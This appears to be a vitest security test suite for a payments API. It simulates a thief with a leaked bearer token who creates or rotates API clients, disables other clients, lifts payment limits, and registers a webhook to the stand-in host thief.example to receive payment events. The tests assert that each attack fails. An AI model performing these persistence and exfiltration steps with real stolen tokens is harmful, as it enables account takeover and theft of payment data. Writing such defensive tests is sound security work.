import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { attack } from "./support/attack.ts";
import { EntityCaller } from "./support/entity-caller.ts";
import { HttpCaller } from "./support/http-caller.ts";
import { Target } from "./support/target.ts";

const THIEF = "https://thief.example/";
/** How long tokens of a retired secret may stay valid. */
const WITHIN_MS = 60_000;

let target: Target;
let owner: EntityCaller;
let authUrl: string;
beforeAll(async () => {
  target = await Target.start();
  authUrl = target.product.demo.auth_url;
  owner = await target.entity("Owner");
});
afterAll(() => target?.remove());

/** A thief who has an access token that was made for a backend's every-day calls, and nothing else. */
const thiefWith = (token: string) => new HttpCaller(authUrl, () => ({ authorization: `Bearer ${token}` }));

/** True if credentials get tokens. */
async function getsTokens(clientId: unknown, clientSecret: unknown): Promise<boolean> {
  const nobody = new HttpCaller(authUrl, () => ({}));
  const { status } = await nobody.post("/oauth2/token", { client_id: clientId, client_secret: clientSecret });
  return status === 200;
}

/** The API clients of the owner's entity that are not disabled. */
async function liveClients(): Promise<string[]> {
  const { body } = await owner.get("/api-clients");
  return (body as { client_id: string; disabled_at: string | null }[])
    .filter(({ disabled_at }) => disabled_at === null)
    .map(({ client_id }) => client_id);
}

describe("04: a token that leaked", () => {
  attack("makes itself permanent: it makes a client of its own", async () => {
    const { body } = await thiefWith(owner.token).post("/create-api-client", { name: "Nothing to see here" });
    expect(await getsTokens(body.client_id, body.client_secret)).toBe(false);
  });

  attack("makes itself permanent: it gives its client a secret that the thief knows", async () => {
    const { client_id } = owner.credentials;
    const { body } = await thiefWith(owner.token).post("/rotate-api-client", { client_id });
    expect(await getsTokens(client_id, body.client_secret)).toBe(false);
  });

  attack("shuts the others out: it disables a client", async () => {
    const other = await target.entity("Owner");
    await thiefWith(owner.token).post("/disable-api-client", { client_id: other.credentials.client_id });
    expect(await liveClients()).toContain(other.credentials.client_id);
  });

  attack("has every payment told to the thief", async () => {
    await thiefWith(owner.token).put("/webhooks/thief", { url: THIEF });
    const { body } = await owner.get("/webhooks");
    expect(body.map(({ url }: { url: string }) => url)).not.toContain(THIEF);
  });

  attack("lifts the entity's limits", async () => {
    const administrator = await owner.asAdministrator();
    await administrator.put("/entity-settings", { payment_limit: 1_000 });
    await thiefWith(owner.token).put("/entity-settings", { payment_limit: null });
    expect((await owner.get("/entity-settings")).body.payment_limit).toBe(1_000);
  });

  attack("outlives the secret that was retired because of it", async () => {
    const leaking = await target.entity("Leaking");
    expect((await thiefWith(leaking.token).get("/users")).status).toBe(200);
    const administrator = await leaking.asAdministrator();
    const { client_id } = leaking.credentials;
    const [{ secrets }] = (await administrator.get("/api-clients")).body;
    const retire = secrets.map(({ id }: { id: string }) => id);
    expect((await administrator.post("/rotate-api-client", { client_id, retire })).status).toBe(200);
    await new Promise((resolve) => setTimeout(resolve, WITHIN_MS));
    expect((await thiefWith(leaking.token).get("/users")).status).toBe(401);
  });
});

describe("04: a token for users alone", () => {
  /** Returns a thief with a token of the scope `users`, where the version has scopes. */
  async function clerkOf(entity: EntityCaller): Promise<EntityCaller> {
    return EntityCaller.of(authUrl, entity.credentials, "users");
  }

  attack("reads balance, phone, nit and history in the answers of changes", async () => {
    const clerk = await clerkOf(owner);
    const id = await owner.aUser({ quota: 1_234, nit: "55000001", phone: "+573155500001", score: 700 });
    await owner.post("/create-transaction", { amount: 1, from_user_id: id, to_user_id: await owner.aUser() });
    for (const [path, body] of [
      ["/update-user", { id }],
      ["/block-user", { id }],
      ["/unblock-user", { id }],
    ] as const) {
      const { status, body: told } = await clerk.post(path, body);
      expect(status).toBe(200);
      const { quota, nit, phone, score, history } = told;
      const nothing = { quota: null, nit: null, phone: null, score: null, history: [] };
      expect({ quota, nit, phone, score, history }).toEqual(nothing);
    }
  });
});

describe("04: a client", () => {
  it("still does with a plain token what the interface has: users, quota, payments, lists", async () => {
    const [from, to] = [await owner.aUser({ quota: 500 }), await owner.aUser()];
    const grant = { id: from, amount: "500", loan_type: "default", payment_date: "2900-01-01" };
    expect((await owner.post("/add-quota", grant)).status).toBe(200);
    const paid = await owner.post("/create-transaction", { from_user_id: from, to_user_id: to, amount: 1_000 });
    expect(paid.body.status).toBe("approved");
    expect((await owner.get("/transaction-history", { "user-id": to })).body).toHaveLength(1);
  });

  it("administers its entity with a token for that", async () => {
    const administrator = await owner.asAdministrator();
    const { body, status } = await administrator.post("/create-api-client", { name: "Second" });
    expect([status, await getsTokens(body.client_id, body.client_secret)]).toEqual([201, true]);
  });
});
